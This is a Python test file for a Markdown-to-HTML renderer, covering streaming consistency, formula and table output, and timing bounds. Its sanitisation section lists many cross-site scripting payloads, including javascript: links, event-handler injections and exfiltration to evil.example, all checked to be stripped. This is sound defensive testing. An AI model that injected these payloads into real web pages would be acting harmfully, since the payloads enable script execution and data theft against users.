"""Markdown as safe HTML: the same however it comes in pieces, and nothing in it that acts."""

import re
import time
from html.parser import HTMLParser
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

pytest.importorskip("nh3", reason="needs kogia[server]")
pytest.importorskip("latex2mathml", reason="needs kogia[server]")

from kogia.serve.page.render import MOST_CELLS, MOST_COLUMNS, MOST_HIGHLIGHTED, MOST_PARAGRAPH, GrowingText, render

MARKS = (
    *(
        "# ",
        "## x",
        "- ",
        "* ",
        "+",
        "1. ",
        "2.",
        "10) ",
        "> ",
        ">",
        "    ",
        "\t",
        "  ",
        " ",
        "\n",
        "\n\n",
        "\r\n",
        "\r",
    ),
    *("```", "```python\n", "~~~", "---", "===", "***", "|", "a | b", "--- | ---", ":-:", "`", "**", "_", "~~", "\\"),
    *("$", "$$", "\\[", "\\]", "\\(", "\\)", "x^2", "\\frac{a}{b}", "{", "}", "&", "&lt;", "<b>", "<!--", "-->", "\0"),
    *("[a]", "[a]: /b", "(http://c.d)", "![i]", "<http://e.f>", "a", "word", "é", "𝛼", "5", "def f(x):", "- [ ] t"),
)
TEXTS = st.lists(st.sampled_from(MARKS), max_size=24).map("".join)


def grown(text: str, cuts: list[int]) -> list[str]:
    """The blocks that a page has after all changes, each checked to keep no more than there is."""
    blocks: list[str] = []
    growing = GrowingText(clock=lambda: 0.0)
    bounds = [0, *sorted(cut % (len(text) + 1) for cut in cuts), len(text)]
    for start, end in pairwise(bounds):
        growing.push(text[start:end])
        change = growing.change()
        if change is not None:
            assert change.kept <= len(blocks)
            blocks[change.kept :] = change.blocks
    change = growing.finish()
    return blocks[: change.kept] + change.blocks


@settings(max_examples=200, deadline=None)
@given(TEXTS, st.lists(st.integers(0, 1000), max_size=12))
@example("para\n#", [4, 5, 6])
@example("para\n#foo", [6, 7])
@example("a\r\n\r\nb\r", [2, 4])
@example("[a]\n\n[a]: http://b.c\n", [5])
@example("x\na | b\n--- | ---\n1 | 2", [8, 14, 16])
@example("$$\nx\n- y\n$$\n\nz", [5, 9])
@example("- a\n\n  b\n\n\nc\n- d", [4, 9, 11])
def test_a_text_that_comes_in_pieces_ends_as_the_text_at_once(text, cuts):
    assert grown(text, cuts) == render(text)


@settings(max_examples=100, deadline=None)
@given(TEXTS)
def test_a_text_that_comes_by_the_character_ends_as_the_text_at_once(text):
    assert grown(text, list(range(len(text)))) == render(text)


def test_a_block_that_another_follows_is_sent_once():
    growing = GrowingText(clock=lambda: 0.0)
    growing.push("first\n\nsecond\n\nthi")
    assert growing.change().kept == 0
    growing.push("rd\n\nfour")
    assert growing.change().kept == 1  # "second" might have been a list that goes on
    growing.push("th")
    change = growing.change()
    assert (change.kept, change.blocks) == (2, ["<p>third</p>\n", "<p>fourth</p>\n"])


def test_rendering_takes_a_bounded_share_of_the_time():
    now = iter([0.0, 2.0, 5.0, 30.0, 30.1])
    growing = GrowingText(clock=lambda: next(now))
    growing.push("a")
    assert growing.change() is not None  # from 0 to 2 s
    growing.push("b")
    assert growing.change() is None  # at 5 s
    assert growing.change().blocks == ["<p>ab</p>\n"]  # at 30 s


# What is shown --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a\nb", "<p>a<br>\nb</p>\n"),
        ("**a** ~~b~~ `c`", "<p><strong>a</strong> <s>b</s> <code>c</code></p>\n"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        ("it costs $5 and $6", "<p>it costs $5 and $6</p>\n"),
        ("15*4=60\n6*9=54", "<p>15*4=60<br>\n6*9=54</p>\n"),
        ("(1+2)*(3+4)*5 is 2**3**4", "<p>(1+2)*(3+4)*5 is 2**3**4</p>\n"),
        ("*3*, **f(x)**(so)", "<p><em>3</em>, <strong>f(x)</strong>(so)</p>\n"),
        ("`$x$`", "<p><code>$x$</code></p>\n"),
        ("$x$", '<p><math display="inline"><mrow><mi>x</mi></mrow></math></p>\n'),
        (r"\(x\)", '<p><math display="inline"><mrow><mi>x</mi></mrow></math></p>\n'),
        ("so\n$$\nx\n$$\n", '<p class="formula"><math display="block"><mrow><mi>x</mi></mrow></math></p>\n'),
        (r"\[x\]", '<p class="formula"><math display="block"><mrow><mi>x</mi></mrow></math></p>\n'),
        (r"so \[x\] holds", '<p>so <math display="block"><mrow><mi>x</mi></mrow></math> holds</p>\n'),
        ("$$ is a price\n\nb", '<p class="formula">$$ is a price</p>\n'),
        ("[a](https://b.c/?d=1&e=2)", 'href="https://b.c/?d=1&amp;e=2"'),
        ("![words](https://b.c/d.png)", ">words</a>"),
    ],
)
def test_markdown_and_formulas_are_html(text, html):
    assert html in "".join(render(text))


def test_code_has_colours_for_languages_that_are_known():
    (block,) = render('```Python title="x"\nif 1: pass\n```')
    assert block.startswith('<pre data-language="python"><code><span class="k">if</span>')
    (other,) = render("```brainfuck\n+<>\n```")
    assert other == '<pre data-language="brainfuck"><code>+&lt;&gt;\n</code></pre>\n'


def test_code_of_any_length_is_shown_and_long_one_without_colours():
    code = "x = 1\n" * (MOST_HIGHLIGHTED // 6 + 1)
    (block,) = render(f"```python\n{code}```")
    assert code in block


def test_a_formula_that_cannot_be_read_is_shown_as_it_is_written():
    for latex in (r"\left(", "x^2^3", "x" * 5000, "{" * 2000, r"\begin{matrix} a"):
        assert f'<code class="formula">{latex}</code>' in "".join(render(f"${latex}$")), latex[:20]


@pytest.mark.parametrize("name", ["aligned", "align*", "gathered", "equation", "cases", "pmatrix"])
def test_environments_that_models_use_are_tables(name):
    (block,) = render(rf"$$\begin{{{name}}} a &= b \\ c &= d \end{{{name}}}$$")
    assert block.count("<mtr>") == 2 and "&amp;" not in block


@pytest.mark.parametrize(
    "mark", ["[", "![", "\\(", "$", "*a ", "`", "**a *b ", "<", "> ", "- ", "|", "~~a", "\\[", "&", "_a"]
)
def test_a_text_of_nothing_but_marks_takes_no_longer_than_it_may(mark):
    began = time.process_time()
    for text in (mark * 6000, f"{mark * 100}\n" * 60):
        assert render(text)
    assert time.process_time() - began < 3


def test_a_table_has_as_many_cells_as_it_may_and_what_is_behind_them_is_text():
    line = "|a" * 50 + "|\n"
    (table, rest) = render(line + "|-" * 50 + "|\n" + line * 200)
    assert 0.9 * MOST_CELLS < table.count("<td>") <= MOST_CELLS
    assert rest.startswith("<p>|a|a")
    wide = MOST_COLUMNS + 1
    assert "<table>" not in "".join(render("|a" * wide + "|\n" + "|-" * wide + "|\n"))


def test_a_paragraph_without_end_is_shown_as_it_is_written():
    assert render("*a* " * (MOST_PARAGRAPH // 4 + 1))[0].startswith("<p>*a* *a*")


def test_a_table_says_where_its_columns_stand():
    (block,) = render("a | b\n:-- | --:\n1 | 2")
    assert '<div class="scroll"><table>' in block and '<td class="right">2</td>' in block


# What must never be there ---------------------------------------------------------------------------------------------

ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<svg onload="alert(1)"><style>*{}</style></svg>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math href="javascript:alert(1)">x</math>',
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](<java\nscript:alert(1)>)",
    "[a](vbscript:x)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](//evil.example/x)",
    "[a](/v1/admin)",
    '[a](https://b.c "onmouseover=alert(1)")',
    '[a](https://b.c/"onmouseover="alert(1))',
    "![a](https://evil.example/?secret)",
    '![x" onerror="alert(1)](https://b.c)',
    "<javascript:alert(1)>",
    '<https://b.c/"onclick=alert(1)>',
    '```"onmouseover=alert(1)\nx\n```',
    '```html"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "$\\text{<script>alert(1)</script>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\mathrm{<img src=x onerror=alert(1)>}$",
    '$\\color{red" onclick="alert(1)}{x}$',
    "$\\style{background:url(https://evil.example)}{x}$",
    "$$\n</math><script>alert(1)</script>\n$$",
    "\\[<img src=x onerror=alert(1)>\\]",
    'a | b\n--- | :-:"onclick=alert(1)\n<b onclick=alert(1)> | 2',
    "<a href='https://b.c' style='position:fixed'>x</a>",
    "<form action=https://evil.example><input name=key></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b\0 onclick=alert(1)>",
    "\ufeff<script >alert(1)</script >",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</p></div><script>alert(1)</script>",
    "[a]: javascript:alert(1)\n\n[a]",
)
ACTIVE = {
    "script",
    "style",
    "img",
    "svg",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "base",
    "meta",
    "link",
    "button",
}
SAFE_ATTRIBUTE = re.compile(
    r"class|target|rel|start|data-language|display|math\w+|stretchy|fence|form|columnalign|width"
)


class Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def check_is_safe(html: str) -> None:
    seen = Seen()
    seen.feed(html)
    seen.close()
    assert not seen.tags & ACTIVE, html
    for name, value in seen.attributes:
        if name == "href":
            assert re.match(r"(https?://|mailto:)", value), html
        else:
            assert SAFE_ATTRIBUTE.fullmatch(name) and "alert" not in value, html


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_survives(attack):
    for text in (attack, f"- {attack}", f"> a\n> {attack}", f"a {attack} b", f"| {attack} |\n|---|\n| {attack} |"):
        check_is_safe("".join(render(text)))
        check_is_safe("".join(grown(text, list(range(0, len(text), 3)))))


@settings(max_examples=80, deadline=None)
@given(st.lists(st.sampled_from(ATTACKS) | st.sampled_from(MARKS), max_size=8).map("".join))
def test_nothing_that_acts_survives_in_company(text):
    check_is_safe("".join(render(text)))


def test_every_link_opens_elsewhere_and_says_nothing_of_where_it_was():
    html = "".join(render("[a](https://b.c) <https://d.e> ![f](https://g.h)"))
    assert html.count("<a ") == html.count('target="_blank"') == html.count('rel="noopener noreferrer nofollow"') == 3
